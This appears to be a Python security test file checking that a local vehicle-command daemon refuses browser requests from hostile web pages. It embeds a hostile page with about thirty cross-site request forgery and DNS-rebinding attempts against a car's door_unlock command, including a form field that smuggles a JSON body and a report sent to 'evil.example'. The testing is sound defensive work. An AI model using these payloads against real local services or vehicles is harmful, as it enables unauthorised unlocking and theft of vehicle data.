# SPDX-License-Identifier: Apache-2.0
"""Web pages cannot use their visitor's browser to reach a car, in whichever way they make it send a request."""

import http.client
import threading
import unittest

import browser
from harness import PATIENCE, SharedCase, vin

COMMAND = f"/api/1/vehicles/{vin()}/command/door_unlock"
DATA = f"/api/1/vehicles/{vin()}/vehicle_data"

# Each attempt resolves when its request has been answered, refused or given up; `learned` is what the page may read.
PAGE = """<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
const target = "%(target)s", report = "%(report)s";
const learned = {};
const patience = ms => new Promise(resolve => setTimeout(resolve, ms));
const bounded = promise => Promise.race([promise, patience(5000).then(() => "no end")]);
async function attempt(name, run) {
  try { learned[name] = String(await bounded(run())); } catch (error) { learned[name] = "refused"; }
}
const text = async reply => { const body = await reply.text(); return reply.type === "opaque" ? "nothing" : body; };
const fetching = (path, options) => () => fetch(target + path, options).then(text);
function element(tag, fields) {
  return () => new Promise(resolve => {
    const made = Object.assign(document.createElement(tag), fields);
    made.onload = made.onerror = () => resolve("nothing");
    document.body.append(made);
  });
}
function form(enctype) {
  return () => new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "frame-" + enctype;
    document.body.append(frame);
    const made = document.createElement("form");
    Object.assign(made, {method: "POST", action: target + "%(command)s", enctype: enctype, target: frame.name});
    const field = document.createElement("input");
    Object.assign(field, {name: '{"a":"', value: '"}'});
    made.append(field);
    document.body.append(made);
    frame.onload = () => {
      let content = null;
      try { content = frame.contentDocument && frame.contentDocument.body.textContent; } catch (error) {}
      resolve(content || "nothing");
    };
    made.submit();
  });
}
const event = made => new Promise(resolve => { made.onopen = () => resolve("open"); made.onerror = () => resolve("nothing"); });
(async () => {
  for (const mode of ["cors", "no-cors", "same-origin"]) {
    for (const credentials of ["omit", "include"]) {
      await attempt(`post ${mode} ${credentials}`, fetching("%(command)s", {method: "POST", mode, credentials, body: "{}"}));
      await attempt(`get ${mode} ${credentials}`, fetching("%(data)s", {mode, credentials}));
    }
  }
  await attempt("fetch with JSON", fetching("%(command)s", {method: "POST", headers: {"Content-Type": "application/json"}, body: "{}"}));
  await attempt("fetch with a token", fetching("%(command)s", {method: "POST", headers: {"Authorization": "Bearer a.b.c"}, body: "{}"}));
  await attempt("fetch without a referrer", fetching("%(command)s", {method: "POST", mode: "no-cors", referrerPolicy: "no-referrer", body: "{}"}));
  await attempt("fetch that outlives its page", fetching("%(command)s", {method: "POST", mode: "no-cors", keepalive: true, body: "{}"}));
  await attempt("fetch with PUT", fetching("%(command)s", {method: "PUT", body: "{}"}));
  await attempt("fetch with DELETE", fetching("/fleetsign/v1/vehicles/%(vin)s/sessions", {method: "DELETE"}));
  await attempt("status", fetching("/fleetsign/v1/status", {}));
  await attempt("XMLHttpRequest", () => new Promise(resolve => {
    const request = new XMLHttpRequest();
    request.open("POST", target + "%(command)s");
    request.onloadend = () => resolve(request.responseText || "nothing");
    request.send("{}");
  }));
  await attempt("beacon", async () => { navigator.sendBeacon(target + "%(command)s", "{}"); await patience(200); return "nothing"; });
  for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) await attempt("form " + enctype, form(enctype));
  await attempt("image", element("img", {src: target + "%(data)s"}));
  await attempt("script", element("script", {src: target + "%(data)s"}));
  await attempt("style", element("link", {rel: "stylesheet", href: target + "%(data)s"}));
  await attempt("prefetch", element("link", {rel: "prefetch", href: target + "%(data)s"}));
  await attempt("frame", element("iframe", {src: target + "%(data)s"}));
  await attempt("object", element("object", {data: target + "%(data)s"}));
  await attempt("video", element("video", {src: target + "%(data)s", preload: "auto"}));
  await attempt("events", () => event(new EventSource(target + "%(data)s")));
  await attempt("socket", () => event(new WebSocket(target.replace("http", "ws") + "%(data)s")));
  await attempt("worker", () => event(new SharedWorker(target + "%(data)s")));
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(learned)});
  window.location = target + "%(data)s";
})();
</script></body>
"""
ATTEMPTS = 30  # and some more: how many the page makes at least
SENT = 25  # how many requests come of them at least: what the page's own rules stop is not sent


@unittest.skipUnless(browser.PROGRAM, "there is no Chromium here")
class HostilePages(SharedCase):
    def setUp(self):
        self.simulator.forget_requests()
        self.seen = []

    def visit(self, page_host, target_host, at_target=False):
        """Shows the page and waits for its report: what its attempts have learned."""
        reports, done, pages, shown = [], threading.Event(), {}, {}
        with browser.hostile_site(pages, reports, done) as site, \
                browser.authority(self.daemon.url, shown, self.seen) as way:
            target = f"http://{target_host}:{way}"
            shown["page"] = pages["/"] = PAGE % {"command": COMMAND, "data": DATA, "vin": vin(), "target": target,
                                                 "report": f"http://{page_host}:{site}/report"}
            self.assert_is_a_way_in(way)
            url = f"{target}/page" if at_target else f"http://{page_host}:{site}/"
            with browser.visiting(url, {page_host, target_host} - {"127.0.0.1"}):
                self.assertTrue(done.wait(PATIENCE), "the page did not report")
        return reports[0]

    def assert_is_a_way_in(self, port):
        """Whoever is no page succeeds there, so that the attempts would if the daemon let them."""
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=PATIENCE)
        connection.request("GET", "/fleetsign/v1/status")
        self.assertEqual(connection.getresponse().status, 200)
        connection.close()
        self.seen.clear()

    def assert_kept_out(self, learned):
        self.assertGreater(len(learned), ATTEMPTS)
        self.assertGreater(len(self.seen), SENT)
        self.assertEqual([(request, status) for request, _, status in self.seen if status != 403], [])
        counts = {name: count["total"] for name, count in self.simulator.requests()["endpoints"].items()}
        self.assertEqual({name: count for name, count in counts.items() if count}, {}, "something reached Fleet API")
        self.assertEqual(self.simulator.executed(vin()), 0)

    def assert_learned_nothing(self, learned):
        self.assertEqual({name: text for name, text in learned.items() if text not in ("nothing", "refused")}, {})

    def assert_every_kind(self):
        """That the browser itself made requests of each kind (Fetch Metadata)."""
        self.assertGreaterEqual({fields.get("Sec-Fetch-Mode") for _, fields, _ in self.seen}, {"cors", "no-cors", "navigate"})
        self.assertGreaterEqual({fields.get("Sec-Fetch-Dest") for _, fields, _ in self.seen},
                                {"empty", "image", "script", "style", "iframe", "object", "video"})

    def test_a_page_of_another_site_reaches_nothing_and_learns_nothing(self):
        learned = self.visit("evil.example", "127.0.0.1")
        self.assert_kept_out(learned)
        self.assert_learned_nothing(learned)
        self.assert_every_kind()

    def test_neither_does_a_page_on_another_port_of_this_machine(self):
        learned = self.visit("127.0.0.1", "127.0.0.1")
        self.assert_kept_out(learned)
        self.assert_learned_nothing(learned)
        self.assert_every_kind()

    def test_nor_one_whose_name_was_pointed_to_this_machine(self):
        learned = self.visit("evil.example", "rebound.example", at_target=True)
        self.assert_kept_out(learned)
        self.assertIn("not_allowed", learned["status"])
        self.assertNotIn("uptime", learned["status"])


if __name__ == "__main__":
    unittest.main()
